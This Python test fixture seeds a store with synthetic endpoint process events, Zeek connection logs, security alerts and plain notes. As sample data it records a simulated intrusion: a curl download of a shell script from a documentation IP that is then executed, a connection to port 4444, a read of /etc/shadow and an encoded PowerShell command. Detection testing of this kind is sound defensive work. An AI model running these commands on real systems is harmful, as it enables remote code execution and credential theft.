"""The store tests' small fixed data set: process events, Zeek connections, alerts and a plain index."""

from __future__ import annotations

from typing import Any


PROC = "logs-endpoint.events.process-default"
CONN = "logs-zeek.conn-default"
ALERTS = ".alerts-security.alerts-default"
NOTES = "notes"


def _proc(i: int, ts: str, host: str, name: str, cmd: str, user: str, pid: int, args: list[str],
          extra: dict[str, Any] | None = None) -> tuple[str, str, dict[str, Any]]:  # fmt: skip
    doc: dict[str, Any] = {
        "@timestamp": ts,
        "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"name": host, "ip": ["10.0.0.%d" % (1 + ["web-01", "db-01", "ws-07"].index(host))]},
        "process": {"name": name, "pid": pid, "command_line": cmd, "args": args, "executable": f"/usr/bin/{name}"},
        "user": {"name": user},
        "message": f"process {name} started by {user}",
    }
    if extra:
        doc.update(extra)
    return PROC, f"p{i}", doc


DOCS: list[tuple[str, str, dict[str, Any]]] = [
    _proc(1, "2024-05-01T10:00:00.000Z", "web-01", "bash", "bash -c whoami", "www-data", 100, ["bash", "-c", "whoami"]),
    _proc(2, "2024-05-01T10:05:00.000Z", "web-01", "curl", "curl -s http://198.51.100.7/x.sh", "www-data", 101,
          ["curl", "-s", "http://198.51.100.7/x.sh"]),
    _proc(3, "2024-05-01T10:06:00.000Z", "web-01", "sh", "sh /tmp/x.sh", "www-data", 102, ["sh", "/tmp/x.sh"]),
    _proc(4, "2024-05-01T11:00:00.000Z", "db-01", "sshd", "/usr/sbin/sshd -D", "root", 200, ["/usr/sbin/sshd", "-D"]),
    _proc(5, "2024-05-01T11:30:00.000Z", "db-01", "cat", "cat /etc/shadow", "root", 201, ["cat", "/etc/shadow"],
          {"tags": ["suspicious", "credential-access"]}),
    _proc(6, "2024-05-02T09:00:00.000Z", "ws-07", "powershell", "powershell -enc SQBFAFgA", "alice", 300,
          ["powershell", "-enc", "SQBFAFgA"], {"tags": ["suspicious"]}),
    _proc(7, "2024-05-02T09:10:00.000Z", "ws-07", "bash", "bash backup.sh", "alice", 301, ["bash", "backup.sh"]),
    _proc(8, "2024-05-02T12:00:00.000Z", "web-01", "bash", "bash -c 'echo Failed password'", "www-data", 103,
          ["bash", "-c", "echo Failed password"]),
]
for i, (ts, src, dst, port, bytes_) in enumerate([
    ("2024-05-01T10:05:01.000Z", "10.0.0.1", "198.51.100.7", 80, 5120),
    ("2024-05-01T10:07:00.000Z", "10.0.0.1", "198.51.100.7", 4444, 90000),
    ("2024-05-01T11:31:00.000Z", "10.0.0.2", "203.0.113.9", 443, 1200),
    ("2024-05-02T09:01:00.000Z", "10.0.0.3", "198.51.100.7", 443, 300),
    ("2024-05-02T09:02:00.000Z", "10.0.0.3", "2001:db8::1", 53, 80),
], start=1):  # fmt: skip
    DOCS.append((CONN, f"c{i}", {
        "@timestamp": ts, "event": {"kind": "event", "category": ["network"], "dataset": "zeek.conn"},
        "source": {"ip": src, "port": 40000 + i}, "destination": {"ip": dst, "port": port},
        "network": {"transport": "tcp", "bytes": bytes_},
        "zeek": {"conn": {"state": "SF", "duration": 1.5 * i}},
    }))  # fmt: skip
DOCS += [
    (ALERTS, "a1", {"@timestamp": "2024-05-01T10:06:30.000Z", "kibana": {"alert": {"rule": {"name": "Curl to shell"},
     "severity": "high", "risk_score": 73}}, "host": {"name": "web-01"}, "message": "Suspicious download and execute"}),
    (ALERTS, "a2", {"@timestamp": "2024-05-01T11:30:10.000Z", "kibana": {"alert": {"rule": {"name": "Shadow read"},
     "severity": "critical", "risk_score": 99}}, "host": {"name": "db-01"}, "message": "Credential file read"}),
    (NOTES, "n1", {"title": "Quick brown fox", "body": "The quick brown fox jumps over the lazy dog", "views": 3,
     "created": "2024-04-01T00:00:00Z"}),
    (NOTES, "n2", {"title": "Lazy dogs", "body": "Dogs are lazy; foxes are quick.", "views": 10,
     "created": "2024-04-02T00:00:00Z"}),
]  # fmt: skip


